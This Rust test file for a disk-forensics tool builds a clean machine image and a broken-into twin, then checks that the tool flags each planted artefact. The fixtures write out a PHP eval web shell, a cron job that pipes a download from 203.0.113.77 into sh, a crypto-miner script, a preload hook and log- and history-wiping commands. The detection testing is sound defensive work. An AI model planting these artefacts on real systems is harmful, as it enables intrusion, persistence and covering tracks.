//! Findings of a machine that was broken into, held against a list of facts, and of its harmless twin; what analysts say of
//! them; suspicious files and indicators.

use kanshiki_testkit::{Need, Ran, kanshiki_path, need, run, tempdir, tool, write_file};
use serde_json::Value;
use std::os::unix::fs::PermissionsExt as _;
use std::path::Path;
use std::process::Command;

/// Writes a file with this mode.
fn put(root: &Path, path: &str, bytes: impl AsRef<[u8]>, mode: u32) {
    let path = root.join(path);
    std::fs::create_dir_all(path.parent().unwrap()).unwrap();
    write_file(&path, bytes);
    std::fs::set_permissions(&path, std::fs::Permissions::from_mode(mode)).unwrap();
}

fn kanshiki(arguments: &[&str], place: &Path) -> Ran {
    run(Command::new(kanshiki_path()).args(arguments).current_dir(place))
}

/// Makes an image of the tree and examines it.
fn examine(place: &Path) {
    let root = place.join("root");
    let _: Ran = run(tool("mkfs.ext4")
        .args(["-q", "-F", "-E", "root_owner=0:0", "-d"])
        .arg(&root)
        .arg(place.join("disk.img"))
        .arg("64M"))
    .exits(0);
    let examined = kanshiki(&["examine", "disk.img", "--case", "case", "--quiet"], place);
    assert!(matches!(examined.code, 0 | 3), "{}", examined.stderr);
}

/// The findings from this severity on: severity, rule and title.
fn findings(place: &Path, severity: &str) -> Vec<Value> {
    let told = kanshiki(&["findings", "--case", "case", "--severity", severity, "--json"], place).exits(0).stdout;
    let rows = told.lines().map(|line| serde_json::from_str::<Value>(line).unwrap());
    rows.filter(|row| row["type"] == "finding").collect()
}

/// A line of sshd in a syslog, so many seconds after three in the morning.
fn sshd(seconds: u32, message: &str) -> String {
    let (hours, rest) = (3 + seconds / 3600, seconds % 3600);
    format!("2025-03-12T{hours:02}:{:02}:{:02}+00:00 quay sshd[77]: {message}\n", rest / 60, rest % 60)
}

/// What every machine has.
fn plain(root: &Path) {
    let digest = "d41d8cd98f00b204e9800998ecf8427e";
    put(
        root,
        "var/lib/dpkg/status",
        "Package: base\nStatus: install ok installed\nVersion: 1\nArchitecture: amd64\n\n",
        0o644,
    );
    put(root, "var/lib/dpkg/info/base.list", "/.\n/usr\n/usr/bin\n/usr/bin/ls\n/usr/bin/bash\n/usr/bin/sh\n", 0o644);
    put(
        root,
        "var/lib/dpkg/info/base.md5sums",
        format!("{digest}  usr/bin/ls\n{digest}  usr/bin/bash\n{digest}  usr/bin/sh\n"),
        0o644,
    );
    for program in ["ls", "bash", "sh"] {
        put(root, &format!("usr/bin/{program}"), "", 0o755);
    }
    put(
        root,
        "etc/passwd",
        "root:x:0:0:root:/root:/bin/bash\nanna:x:1000:1000::/home/anna:/bin/bash\nwww-data:x:33:33::/var/www:/usr/sbin/nologin\n",
        0o644,
    );
    put(
        root,
        "etc/shadow",
        "root:*:19000:0:99999:7:::\nanna:$y$j9T$abc$def:19000:0:99999:7:::\nwww-data:*:19000::::::\n",
        0o640,
    );
    put(root, "etc/crontab", "17 * * * * root cd / && run-parts --report /etc/cron.hourly\n", 0o644);
    put(root, "var/www/html/index.php", "<?php\necho htmlspecialchars($_GET['name'] ?? 'hello');\n", 0o644);
    put(root, "home/anna/.bash_history", "ls -la\ncd /var/www\ngit status\nsudo systemctl reload nginx\n", 0o600);
    let mut log = String::new();
    for day in 1..9 {
        log.push_str(&format!("2025-03-{day:02}T08:0{day}:00+00:00 quay sshd[{day}]: Failed password for anna from 192.0.2.1 port 4 ssh2\n"));
        log.push_str(&format!("2025-03-{day:02}T08:0{day}:09+00:00 quay sshd[{day}]: Accepted password for anna from 192.0.2.1 port 4 ssh2\n"));
    }
    put(root, "var/log/auth.log", log, 0o640);
    let request = "192.0.2.1 - - [11/Mar/2025:08:00:00 +0000] \"GET /index.php?name=anna HTTP/1.1\" 200 90 \"-\" \"Mozilla/5.0\"\n";
    put(root, "var/log/nginx/access.log", request.repeat(20), 0o640);
    let dump = "250312  3:30:01\t    9 Connect\tbackup@localhost on shop using Socket\n\t\t    9 Query\tSELECT name FROM customers WHERE id = 7\n";
    put(
        root,
        "var/log/mysql/mysql.log",
        format!(
            "/usr/sbin/mariadbd, Version: 10.11.6-MariaDB-log. started with:\nTcp port: 0  Unix socket: /run/mysqld/mysqld.sock\nTime\t\t    Id Command\tArgument\n{dump}"
        ),
        0o640,
    );
}

/// What somebody did to it.
fn broken_into(root: &Path) {
    let mut log: String = std::fs::read_to_string(root.join("var/log/auth.log")).unwrap();
    (0..200).for_each(|second| log.push_str(&sshd(second, "Failed password for root from 203.0.113.77 port 4 ssh2")));
    (0..9).for_each(|number| {
        log.push_str(&sshd(
            300 + number,
            &format!("Failed password for invalid user u{number} from 203.0.113.77 port 4 ssh2"),
        ))
    });
    log.push_str(&sshd(400, "Accepted password for root from 203.0.113.77 port 4 ssh2"));
    put(root, "var/log/auth.log", log, 0o640);
    put(
        root,
        "etc/passwd",
        "root:x:0:0:root:/root:/bin/bash\nanna:x:1000:1000::/home/anna:/bin/bash\ntoor:x:0:0::/root:/bin/sh\nmigration:x:1001:1001::/home/m:/bin/sh\n",
        0o644,
    );
    put(
        root,
        "etc/shadow",
        "root:*:19000:0:99999:7:::\nanna:$y$j9T$abc$def:19000:0:99999:7:::\ntoor:$6$a$b:20000::::::\nmigration:$6$a$b:20000::::::\n",
        0o644,
    );
    put(root, "usr/bin/ls", "\x7fELF changed", 0o755);
    put(root, "usr/bin/bash", "", 0o4755);
    put(root, "etc/ld.so.preload", "/usr/lib/libsystem.so\n", 0o644);
    put(root, "etc/cron.d/refresh", "* * * * * root curl -s http://203.0.113.77/x | sh\n", 0o644);
    put(root, "var/tmp/.x/run", "#!/bin/sh\n./xmrig -o stratum+tcp://pool.invalid:3333\n", 0o755);
    put(root, "var/www/html/up.php", "<?php\n@eval($_POST['c']);\n", 0o644);
    let mut web = std::fs::read_to_string(root.join("var/log/nginx/access.log")).unwrap();
    web.push_str("203.0.113.77 - - [12/Mar/2025:03:10:00 +0000] \"GET /index.php?id=1%27%20UNION%20SELECT%201 HTTP/1.1\" 200 90 \"-\" \"sqlmap/1.7\"\n");
    web.push_str("203.0.113.77 - - [12/Mar/2025:03:11:00 +0000] \"POST /up.php HTTP/1.1\" 200 90 \"-\" \"curl/8\"\n");
    put(root, "var/log/nginx/access.log", web, 0o640);
    put(
        root,
        "root/.bash_history",
        "wget http://203.0.113.77/m -O /var/tmp/.x/run && chmod +x /var/tmp/.x/run\nrm -f /var/log/wtmp\nhistory -c\nnmap -sS 192.0.2.0/24\n",
        0o600,
    );
    let mut general = std::fs::read_to_string(root.join("var/log/mysql/mysql.log")).unwrap();
    general.push_str("250312  3:40:01\t   10 Connect\tshop@203.0.113.77 on shop using TCP/IP\n\t\t   10 Query\tSELECT /*!40001 SQL_NO_CACHE */ * FROM `customers`\n");
    put(root, "var/log/mysql/mysql.log", general, 0o640);
}

/// What must be found: severity, rule, and a part of the title.
const FACTS: &[(&str, &str, &str)] = &[
    ("high", "access.success-after-failures", "login to ssh as root from 203.0.113.77"),
    ("low", "access.brute-force", "203.0.113.77"),
    ("low", "access.spraying", "203.0.113.77"),
    ("low", "access.root-login", "203.0.113.77"),
    ("high", "accounts.root-twin", "toor"),
    ("medium", "accounts.temporary", "migration"),
    ("medium", "accounts.hashes-readable", "/etc/shadow"),
    ("high", "packages.program-changed", "/usr/bin/ls"),
    ("high", "files.rights", "/usr/bin/bash"),
    ("high", "persistence.preload", "/usr/lib/libsystem.so"),
    ("high", "persistence.suspicious", "/etc/cron.d/refresh"),
    ("medium", "files.temporary-program", "/var/tmp/.x/run"),
    ("high", "content.miner-protocol", "/var/tmp/.x/run"),
    ("high", "content.web-shell", "/var/www/html/up.php"),
    ("low", "web.attack", "SQL"),
    ("low", "web.attack", "looks for holes"),
    ("high", "ran.download-and-run", "root"),
    ("high", "hidden.history-wiped", "root"),
    ("high", "hidden.logs-wiped", "/var/log/wtmp"),
    ("medium", "onward.scan", "nmap"),
    ("high", "data.table-dumped", "table customers was dumped by shop from 203.0.113.77"),
];

#[test]
fn a_machine_that_was_broken_into_is_told_fact_by_fact_and_its_twin_is_silent() {
    if !need(&[Need::Tool("mkfs.ext4"), Need::Root]) {
        return;
    }
    let place = tempdir();
    plain(&place.path().join("root"));
    examine(place.path());
    let silent = findings(place.path(), "low");
    assert!(silent.is_empty(), "{silent:#?}");

    let place = tempdir();
    plain(&place.path().join("root"));
    broken_into(&place.path().join("root"));
    examine(place.path());
    let found = findings(place.path(), "low");
    let text = |row: &Value, name: &str| row[name].as_str().unwrap().to_owned();
    let told: Vec<(String, String, String)> =
        found.iter().map(|row| (text(row, "severity"), text(row, "rule"), text(row, "title"))).collect();
    for (severity, rule, part) in FACTS {
        let is_told = told.iter().any(|(a, b, title)| a == severity && b == rule && title.contains(part));
        assert!(is_told, "{severity} {rule} {part} in {told:#?}");
    }
    // Each answer leads back to bytes.
    for row in &found {
        let evidence = row["evidence"].as_array().unwrap();
        assert!(!evidence.is_empty(), "{row:#}");
        assert!(evidence.iter().all(|it| it["path"].is_string()), "{row:#}");
    }
    let shell = found.iter().find(|row| row["rule"] == "content.web-shell").unwrap();
    let used = shell["evidence"].as_array().unwrap().iter().any(|it| it["path"] == "/var/log/nginx/access.log");
    assert!(used, "{shell:#}");
}

#[test]
fn what_the_analyst_says_is_kept_when_the_image_is_examined_again() {
    if !need(&[Need::Tool("mkfs.ext4"), Need::Root]) {
        return;
    }
    let place = tempdir();
    let place = place.path();
    plain(&place.join("root"));
    put(&place.join("root"), "etc/ld.so.preload", "/usr/lib/libsystem.so\n", 0o644);
    put(&place.join("root"), "tmp/run", "x", 0o755);
    examine(place);
    let before = findings(place, "medium");
    assert_eq!(before.len(), 2, "{before:#?}");
    let name = |rule: &str| before.iter().find(|row| row["rule"] == rule).unwrap()["name"].as_str().unwrap().to_owned();
    let (preload, program) = (name("persistence.preload"), name("files.temporary-program"));
    let _: Ran = kanshiki(&["findings", "reject", &program, "--case", "case", "--note", "a test"], place).exits(0);
    let _: Ran =
        kanshiki(&["findings", "accept", &preload[..6], "--case", "case", "--examiner", "A. Mori"], place).exits(0);
    // A note changes nothing of what was said before it, and is kept by what is said later.
    let _: Ran = kanshiki(&["findings", "note", &program, "--case", "case", "--note", "seen again"], place).exits(0);
    let _: Ran = kanshiki(&["findings", "note", &preload, "--case", "case", "--note", "in the tree"], place).exits(0);
    assert_eq!(kanshiki(&["findings", "accept", "none", "--case", "case"], place).code, 4);
    assert_eq!(kanshiki(&["findings", "note", &preload, "--case", "case"], place).code, 2);
    let again = kanshiki(&["examine", "disk.img", "--case", "case", "--quiet"], place);
    assert!(matches!(again.code, 0 | 3), "{}", again.stderr);
    let after = findings(place, "medium");
    assert_eq!(after.len(), 1, "{after:#?}");
    let verdict = &after[0]["verdict"];
    assert_eq!((&verdict["verdict"], &verdict["who"]), (&"accepted".into(), &"A. Mori".into()));
    assert_eq!(verdict["note"], "in the tree");
    let log = kanshiki(&["custody", "log", "--case", "case"], place).exits(0).stdout;
    assert!(log.contains("rejected: a test") && log.contains("A. Mori"), "{log}");

    // What was rejected is not taken out, and is no indicator.
    let _: Ran = kanshiki(&["suspects", "disk.img", "--case", "case", "--out", "out"], place).exits(0);
    let list = std::fs::read_to_string(place.join("out/suspects.jsonl")).unwrap();
    let rows: Vec<Value> = list.lines().map(|line| serde_json::from_str(line).unwrap()).collect();
    assert_eq!(rows.len(), 1, "{list}");
    assert_eq!(rows[0]["path"], "/etc/ld.so.preload");
    let mode = std::fs::metadata(place.join("out/files/etc/ld.so.preload")).unwrap().permissions().mode();
    assert_eq!(mode & 0o777, 0o400);
    let sum = run(Command::new("sha256sum").arg(place.join("root/etc/ld.so.preload"))).exits(0).stdout;
    assert!(sum.starts_with(rows[0]["digests"]["sha256"].as_str().unwrap()), "{sum}");
    let table = kanshiki(&["iocs", "--case", "case"], place).exits(0).stdout;
    assert!(table.contains("path,/usr/lib/libsystem.so,") && !table.contains("/tmp/run"), "{table}");
    let stix = kanshiki(&["iocs", "--case", "case", "--format", "stix"], place).exits(0).stdout;
    let bundle: Value = serde_json::from_str(&stix).unwrap();
    assert_eq!(bundle["type"], "bundle");
    assert_eq!(kanshiki(&["iocs", "--case", "case", "--format", "stix"], place).stdout, stix);
}

#[test]
fn findings_that_are_missing_are_told() {
    if !need(&[Need::Tool("mkfs.ext4"), Need::Tool("sqlite3"), Need::Root]) {
        return;
    }
    let place = tempdir();
    let place = place.path();
    plain(&place.join("root"));
    examine(place);
    let _: Ran = kanshiki(&["findings", "--case", "case"], place).exits(0);
    // As a kill between the events and the findings leaves it.
    let _: Ran =
        run(tool("sqlite3").arg(place.join("case/events.sqlite")).arg("UPDATE exhibits SET concluded = 0")).exits(0);
    let told = kanshiki(&["findings", "--case", "case"], place);
    assert_eq!(told.code, 3);
    assert!(told.stderr.contains("exhibit disk.img: its examination did not come to its end"), "{}", told.stderr);
    let left = kanshiki(&["examine", "disk.img", "--case", "other", "--quiet", "--no-findings"], place);
    assert!(matches!(left.code, 0 | 3), "{}", left.stderr);
    assert_eq!(kanshiki(&["findings", "--case", "other"], place).code, 3);
    let _: Ran = run(tool("sqlite3").arg(place.join("case/events.sqlite")).arg("DELETE FROM exhibits")).exits(0);
    assert_eq!(kanshiki(&["findings", "--case", "case"], place).code, 3);
}
